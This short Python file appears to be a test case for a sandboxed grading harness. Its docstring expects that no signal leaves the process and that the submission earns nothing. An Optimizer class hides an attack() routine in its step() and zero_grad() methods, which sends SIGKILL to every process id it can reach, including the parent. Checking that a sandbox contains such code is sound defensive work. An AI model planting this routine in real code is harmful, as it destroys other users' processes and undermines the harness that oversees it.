"""Expect: no signal leaves this process.

Earns: 0
"""

import os
import signal


def attack():
    for pid in (-1, 0, 1, os.getppid(), *range(2, 5000)):
        if pid != os.getpid():
            try:
                os.kill(pid, signal.SIGKILL)
                print("killed", pid)
            except OSError:
                pass


class Optimizer:
    def __init__(self, params, lr):
        self.params = list(params)
        self.lr = lr

    def step(self):
        attack()

    def zero_grad(self):
        attack()
